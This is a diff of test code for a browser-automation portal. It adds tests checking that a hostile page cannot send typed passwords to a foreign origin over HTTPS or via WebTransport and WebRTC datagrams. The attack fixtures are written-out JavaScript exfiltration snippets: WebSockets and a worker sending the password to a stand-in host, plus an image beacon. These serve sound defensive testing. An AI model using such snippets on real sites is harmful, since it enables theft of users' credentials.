@@ -1,8 +1,12 @@
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
 import { describe, expect, test, vi } from 'vitest';
 import { PipelineError } from '../../../src/domain/failures.ts';
+import { closeBrowser, launchBrowser } from '../../../src/portal/browser.ts';
+import { startForeignHttpsSite } from './fixtures/foreignHttpsSite.ts';
 import { startForeignSite } from './fixtures/foreignSite.ts';
 import { csvFile, startPagePortal, type PortalPage } from './fixtures/pagePortal.ts';
-import { demoCredentials, startSession } from './fixtures/sessions.ts';
+import { demoCredentials, startSession, testBrowser } from './fixtures/sessions.ts';
 
 // Against hangs only.
 vi.setConfig({ testTimeout: 120_000 });
@@ -356,4 +360,111 @@ describe('another origin gets nothing of a secret', () => {
       expect(isRefused(failure)).toBe(true);
     },
   );
+});
+
+/** Late enough for a socket to open and to send before the page is left. */
+const slowly =
+  (body: string): PortalPage =>
+  (_, response) =>
+    void setTimeout(() => response.setHeader('content-type', 'text/html').end(body), 700);
+
+interface HttpsAttack {
+  readonly title: string;
+  readonly pages: Readonly<Record<string, PortalPage>>;
+  /** What it must get all the same. */
+  readonly gets: string;
+}
+
+const openSocket = "const w = new WebSocket('wss://elsewhere.invalid/socket')";
+/** Over HTTP/2 a WebSocket could ride the connection that this opens. */
+const library = '<script src="https://elsewhere.invalid/lib.js"></script>';
+
+const httpsAttacks: HttpsAttack[] = [
+  {
+    title: 'a WebSocket that opens as the password is typed',
+    pages: { '/': library + onType(`${openSocket}; w.onopen = () => w.send(p)`) },
+    gets: '/lib.js',
+  },
+  {
+    title: 'a WebSocket that was open before',
+    pages: {
+      '/':
+        library +
+        form(
+          '/in',
+          `<script>const form = document.forms[0]; form.hidden = true; ${openSocket};
+          w.onopen = () => { w.send('opened'); form.hidden = false };
+          form.password.oninput = (e) => w.send(e.target.value)</script>`,
+        ),
+    },
+    gets: 'message opened',
+  },
+  {
+    title: 'a WebSocket of a worker',
+    pages: {
+      '/': library + onType(`new Worker('/w.js').postMessage(p)`),
+      '/w.js': (_, response) =>
+        response
+          .setHeader('content-type', 'text/javascript')
+          .end(`onmessage = ({ data }) => { ${openSocket}; w.onopen = () => w.send(data) }`),
+    },
+    gets: '/lib.js',
+  },
+  {
+    title: 'nothing but a picture',
+    pages: { '/': onType(`new Image().src = 'https://elsewhere.invalid/picture'`) },
+    gets: '/picture',
+  },
+];
+
+/** What the page opens at once is open before the first secret is entered. */
+const patientRecipe = recipe.replace(
+  '- { name: user,',
+  '- { name: ready, wait: { appears: { label: User } } }\n  - { name: user,',
+);
+
+describe.each(['h2', 'http/1.1'] as const)('another origin by https, over %s', (protocol) => {
+  test.each(httpsAttacks)('gets its plain GETs and no secret through $title', async ({ pages, gets }) => {
+    await using there = await startForeignHttpsSite(protocol);
+    await using portal = await startPagePortal({ ...pages, '/in': slowly(app), '/file': csvFile('a.csv') });
+    const { siteProxy, browser } = there;
+    await using at = await startSession(portal.url, patientRecipe, { browser, reach: { siteProxy } });
+    await at.session.exportReport(at.request());
+    await at.session.close();
+    expect(there.received()).toContain(gets);
+    expect(forms.filter((secret) => there.received().includes(secret))).toEqual([]);
+  });
+});
+
+test('no datagram leaves the browser, for WebTransport or WebRTC', async () => {
+  const datagrams: Buffer[] = [];
+  const udp = createSocket('udp4').bind(0, '127.0.0.1');
+  udp.on('message', (datagram) => datagrams.push(datagram));
+  await once(udp, 'listening');
+  try {
+    const there = `127.0.0.1:${String(udp.address().port)}`;
+    const script = `try { new WebTransport('https://${there}/').ready.catch(() => {}) } catch {}
+      const r = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${there}' }] });
+      r.createDataChannel('x'); r.createOffer().then((offer) => r.setLocalDescription(offer))`;
+    await using portal = await startPagePortal({
+      '/': onType(script),
+      '/in': slowly(app),
+      '/file': csvFile('a.csv'),
+    });
+    await using at = await startSession(portal.url, recipe);
+    await at.session.exportReport(at.request());
+    expect(datagrams).toEqual([]);
+    // A browser without the gate does send some, so that they would have been seen.
+    const free = await launchBrowser(testBrowser());
+    try {
+      const page = await free.context.newPage();
+      await page.goto(portal.url);
+      await page.evaluate(script);
+      await expect.poll(() => datagrams.length, { timeout: 30_000 }).toBeGreaterThan(0);
+    } finally {
+      await closeBrowser(free);
+    }
+  } finally {
+    udp.close();
+  }
 });
